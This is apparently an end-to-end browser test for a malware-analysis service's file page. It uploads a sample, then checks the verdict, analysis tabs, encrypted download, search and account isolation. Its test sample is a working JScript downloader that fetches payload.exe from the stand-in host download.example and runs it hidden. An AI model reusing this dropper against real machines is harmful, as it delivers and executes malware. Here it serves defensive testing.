// The page for files, from the drop to every part of the result, against the real service.
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { axeFindings, missingBrowser, openPage, openStage, type Stage, signIn, type Watched } from './browser.ts'

/** Ours, and harmless: nothing answers at that address, and no machine but the imitated one runs it. */
const SCRIPT = `var shell = new ActiveXObject("WScript.Shell");
var http = new ActiveXObject("MSXML2.XMLHTTP"); http.open("GET", "http://download.example/payload.exe", false); http.send();
var stream = new ActiveXObject("ADODB.Stream"); stream.Type = 1; stream.Open(); stream.Write(http.responseBody);
stream.SaveToFile("C:\\\\Users\\\\Public\\\\a.exe", 2); eval("shell.Run('C:\\\\\\\\Users\\\\\\\\Public\\\\\\\\a.exe', 0)");
`

describe('files in the console', { skip: missingBrowser }, () => {
  let stage: Stage
  let watched: Watched

  before(async () => {
    stage = await openStage()
    watched = await openPage(stage)
    await signIn(watched, stage.service)
  })
  after(() => stage.end())

  test('a file that is chosen is followed through its stages to its verdict, which has an address', async () => {
    const { page } = watched
    await page.getByRole('link', { name: 'File', exact: true }).click()
    await page.getByLabel('Tags').fill('case-17, finance')
    await page
      .getByLabel('Choose a file')
      .setInputFiles({ name: 'invoice.js', mimeType: 'text/javascript', buffer: Buffer.from(SCRIPT) })
    await page.getByRole('heading', { name: 'Malicious', exact: true }).waitFor({ timeout: 60_000 })
    assert.match(page.url(), /\/file\/[0-9a-f]{64}$/)
    await page.getByText('case-17').waitFor()
    await page.getByRole('region', { name: 'Stages' }).getByText('Emulated or run').waitFor()
    assert.deepEqual(await axeFindings(page), [])
  })

  test('structure, strings, behavior, techniques and indicators are there', async () => {
    const { page } = watched
    const show = (name: RegExp) => page.getByRole('tab', { name }).click()
    await show(/^Structure/)
    await page.getByRole('img', { name: /^Entropy by offset/ }).waitFor()
    await page.getByRole('region', { name: /^Script layers/ }).waitFor()
    assert.deepEqual(await axeFindings(page), [])
    await show(/^Strings/)
    await page.getByLabel('Search: Strings and imports').fill('nothing that stands there')
    await page.getByText('Nothing matches.').waitFor()
    assert.deepEqual(await axeFindings(page), [])
    await show(/^Behavior/)
    await page
      .getByRole('region', { name: /^Processes/ })
      .getByText('wscript.exe')
      .first()
      .waitFor()
    await page.getByLabel('Search: Time line').fill('download.example')
    await page
      .getByRole('list', { name: /^Time line/ })
      .getByText('http://download.example/payload.exe')
      .first()
      .waitFor()
    assert.deepEqual(await axeFindings(page), [])
    await show(/^ATT&CK/)
    await page.getByText('Ingress Tool Transfer').waitFor()
    assert.deepEqual(await axeFindings(page), [])
    await show(/^Indicators/)
    await page.getByText('hxxp://download[.]example/payload.exe').waitFor()
    assert.deepEqual(await axeFindings(page), [])
  })

  test('it is judged by a person, and fetched only as an encrypted ZIP', async () => {
    const { page } = watched
    await page.getByRole('button', { name: 'Confirmed', exact: true }).click()
    await page.getByRole('button', { name: 'Confirmed', exact: true, pressed: true }).waitFor()
    const saving = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Download' }).click()
    assert.match((await saving).suggestedFilename(), /^[0-9a-f]{64}\.zip$/)
    const evidence = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Artifacts' }).click()
    assert.match((await evidence).suggestedFilename(), /^[0-9a-f]{64}-artifacts\.zip$/)
  })

  test('it stands in the inbox, and a search for what it holds finds it', async () => {
    const { page } = watched
    await page.getByRole('link', { name: 'Inbox' }).click()
    await page.getByRole('listitem').filter({ hasText: 'invoice.js' }).getByText('Confirmed').waitFor()
    await page.getByRole('link', { name: 'Search' }).click()
    assert.deepEqual(await axeFindings(page), [])
    await page.getByLabel('What to search for').fill('hxxp://download[.]example/payload.exe')
    await page.getByRole('button', { name: 'Search' }).click()
    await page.getByRole('region', { name: 'Files 1' }).getByRole('link', { name: 'invoice.js' }).waitFor()
    assert.deepEqual(await axeFindings(page), [])
  })

  test('another account sees nothing of it', async () => {
    const { page } = watched
    const address = await page.getByRole('link', { name: 'invoice.js' }).getAttribute('href')
    const admin = {
      authorization: `Bearer ${await page.evaluate("sessionStorage.getItem('assay.key')")}`,
      'content-type': 'application/json',
    }
    const post = (path: string, body: object) =>
      fetch(`${stage.service.url}${path}`, { method: 'POST', headers: admin, body: JSON.stringify(body) })
    await post('/v1/admin/accounts', { name: 'other', credits: 100 })
    const issued = (await (await post('/v1/admin/keys', { account: 'other', permissions: ['api:full'] })).json()) as {
      data: { key: string }
    }
    await page.getByRole('button', { name: 'Sign out' }).click()
    await signIn(watched, stage.service, issued.data.key)
    await page.goto(`${stage.service.url}${address}`)
    await page.getByRole('alert').getByText('Not found').waitFor()
    assert.deepEqual(await axeFindings(page), [])
  })

  test('nobody but the service was asked, and the page did nothing that its policy refuses', () => {
    assert.deepEqual(watched.strangers, [])
    assert.deepEqual(
      watched.faults.filter((fault) => !/status of 404/.test(fault)),
      [],
    )
  })
})
